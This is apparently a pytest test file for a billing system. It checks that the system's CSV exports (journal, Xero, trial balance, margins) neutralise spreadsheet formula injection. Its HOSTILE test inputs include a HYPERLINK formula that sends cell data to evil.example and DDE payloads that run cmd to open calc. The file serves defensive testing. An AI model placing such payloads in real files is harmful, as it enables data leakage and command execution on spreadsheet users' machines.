"""Every CSV the project writes neutralises text a spreadsheet would run as a
formula (OWASP: a cell beginning with =, +, -, @, tab or carriage return gets a '
in front; so does each piece of it after a ',', ';', tab or line break, where a
spreadsheet splitting at ';' or tabs starts a cell) and writes the amounts it
formats itself unchanged."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal as D

import pytest

from billing.journal.models import JournalEntry
from billing.journal.trial_balance import entity_trial_balance, trial_balance_lines
from billing.margins.report import Margin, margins_csv
from common.spreadsheet_csv import Figure, SpreadsheetCsv, text_cell
from tests.factories import CustomerFactory, api_client
from wallets.revenue import RevenueMonth, credit_revenue_csv

# One a prefix OWASP names, then formulas a spreadsheet splitting at ';' (French
# and German Excel and LibreOffice), ',' (a reader that ignores quotes), tabs or
# line breaks would find after the split: each text and how it is written.
HOSTILE = {
    '=HYPERLINK("http://evil.example/leak?"&A1,"open")': (
        '\'=HYPERLINK("http://evil.example/leak?"&A1,"open")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    # The tab starts a cell for a split at tabs: the = after it is a formula's start.
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    'a;=HYPERLINK("http://evil.example/leak?"&A1;"open")': (
        'a;\'=HYPERLINK("http://evil.example/leak?"&A1;"open")'
    ),
    "ref;-2+3+cmd|' /C calc'!A0": "ref;'-2+3+cmd|' /C calc'!A0",
    "ref, @SUM(1+1)": "ref,' @SUM(1+1)",
    'ref;"=1+1': "ref;'\"=1+1",
    "ref\t+1+1": "ref\t'+1+1",
    "ref\n=1+1": "ref\n'=1+1",
    "ref;;=1+1": "ref;;'=1+1",
}
# Customer ids take no spaces, '/', '?', '#', '%' or '\\': formulas that fit, the
# text each is written as, one for each HOSTILE text.
CUSTOMER_IDS = {
    '=HYPERLINK("evil.example"&A1,"open")': '\'=HYPERLINK("evil.example"&A1,"open")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "tab": "tab",
    "cr": "cr",
    "a;=1+1": "a;'=1+1",
    "b;-2+3": "b;'-2+3",
    "c,@SUM(1+1)": "c,'@SUM(1+1)",
    "d;+1+1": "d;'+1+1",
    "e": "e",
    "f": "f",
    "g;;=1": "g;;'=1",
}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def formulas(text: str, separator: str) -> list[str]:
    """The pieces of `text`, split at `separator` alone (quotes not honoured), that a
    spreadsheet runs: beginning, past spaces and double quotes, with a formula's
    character."""
    pieces = text.split(separator)
    return [piece for piece in pieces if piece.lstrip(' "')[:1] in set("=+-@\t\r")]


def test_the_writer_neutralises_each_prefix_and_writes_figures_as_they_are():
    writer = SpreadsheetCsv()

    line = writer.row([*HOSTILE, "acme", "", None, Figure("-8.47"), D("-0.50"), -3])

    assert cells(line) == [[*HOSTILE.values(), "acme", "", "", "-8.47", "-0.50", "-3"]]


def test_text_with_separators_but_no_formula_is_written_as_it_is():
    plain = ["Acme; Inc, Paris", "a\tb", "line\nbreak", "it's 3-4", "x;y=1", "ref, 12"]

    assert [text_cell(text) for text in plain] == plain
    assert cells(SpreadsheetCsv().row(plain)) == [plain]


@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
def test_no_split_of_a_written_line_at_a_separator_starts_a_formula(separator):
    """The line as a spreadsheet splitting at that character alone (quotes not
    honoured) sees it: no piece starts with a formula's character."""
    line = SpreadsheetCsv().row([*HOSTILE, *CUSTOMER_IDS])

    assert formulas(line.rstrip("\n"), separator) == []


def test_the_writer_refuses_a_cell_it_cannot_tell_text_from_number():
    with pytest.raises(TypeError, match="float"):
        SpreadsheetCsv().row([1.5])


def journal_rows(count: int = len(HOSTILE)) -> None:
    """A document per hostile text: Dr receivable 8.47 / Cr revenue 8.47 of a
    customer whose id is a formula, its number, memo and account name the text."""
    written = datetime(2026, 11, 5, tzinfo=UTC)
    for index in range(count):
        external_id = list(HOSTILE)[index]
        customer = CustomerFactory(external_id=list(CUSTOMER_IDS)[index])
        for line, (account, debit, credit) in enumerate(
            [("1100", D("8.47"), D(0)), ("4000", D(0), D("8.47"))]
        ):
            JournalEntry.objects.create(
                date=date(2026, 11, 5),
                document_date=date(2026, 11, 5),
                document_type="payment",
                document=external_id[:64],
                document_key=f"payment:{index}",
                line=line,
                customer=customer,
                kind="receivable" if account == "1100" else "revenue",
                account=account,
                account_name=external_id[:150],
                debit=debit,
                credit=credit,
                currency="USD",
                memo=external_id,
                written_at=written,
                billing_entity="default",
                functional_currency="USD",
                functional_debit=debit,
                functional_credit=credit,
                rate=D(1),
            )


def body(response) -> str:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_the_journal_csv_neutralises_ids_references_and_memos_and_keeps_amounts():
    journal_rows()

    found = cells(body(api_client().get("/api/v1/journal.csv?from=2026-11-01&to=2026-12-01")))

    header, rows = found[0], found[1:]
    assert len(rows) == 2 * len(HOSTILE)
    written = list(HOSTILE.values())
    for row in rows:
        entry = dict(zip(header, row, strict=True))
        index = written.index(entry["memo"])
        assert entry["document"] == entry["account_name"] == entry["memo"]
        assert entry["customer"] == list(CUSTOMER_IDS.values())[index]
        assert (entry["debit"], entry["credit"]) in {("8.47", "0.00"), ("0.00", "8.47")}


@pytest.mark.django_db
def test_the_xero_csv_neutralises_its_text_and_keeps_signed_amounts():
    journal_rows()

    found = cells(
        body(api_client().get("/api/v1/journal.csv?from=2026-11-01&to=2026-12-01&format=xero"))
    )

    rows = found[1:]
    assert len(rows) == 2 * len(HOSTILE)
    for narration, _day, description, account, _tax, amount, *_ in rows:
        assert narration.startswith("payment ")
        # "account name (customer): memo", each a hostile text.
        assert description.startswith(tuple(HOSTILE.values()))
        assert [formulas(description, separator) for separator in ",;\t\n"] == [[]] * 4
        assert (account, amount) in {("1100", "8.47"), ("4000", "-8.47")}


@pytest.mark.django_db
def test_the_trial_balance_csv_neutralises_account_names_and_keeps_amounts():
    journal_rows(1)
    JournalEntry.objects.filter(account="4000").update(account="-4000")

    code = "default"
    balance = entity_trial_balance(
        billing_entity=code, start=date(2026, 11, 1), end=date(2026, 12, 1)
    )
    found = cells("".join(trial_balance_lines(balance)))

    name = HOSTILE['=HYPERLINK("http://evil.example/leak?"&A1,"open")']
    assert found[1:] == [
        [code, "'-4000", name, "USD", "0.00", "0.00", "8.47", "-8.47"],
        [code, "1100", name, "USD", "0.00", "8.47", "0.00", "8.47"],
    ]


def test_the_margins_csv_neutralises_keys_and_keeps_negative_margins():
    rows = [
        Margin(key={"model": text}, revenue=D("1.00"), cost=D("9.47"), uncosted_quantity=D(5))
        for text in HOSTILE
    ]

    found = cells(margins_csv(rows, group_by="model", currency="USD"))

    assert found[1:] == [
        [written, "1.00", "9.47", "-8.47", "-847.00", "5", "USD", "", ""]
        for written in HOSTILE.values()
    ]


def test_the_credit_revenue_csv_keeps_its_amounts():
    rows = [RevenueMonth(date(2026, 11, 1), "USD", D("0"), D("10.00"), D("18.47"), D("0"))]

    found = cells(credit_revenue_csv(rows))

    assert found[1:] == [["2026-11", "USD", "0.00", "10.00", "18.47", "0.00", "-8.47"]]
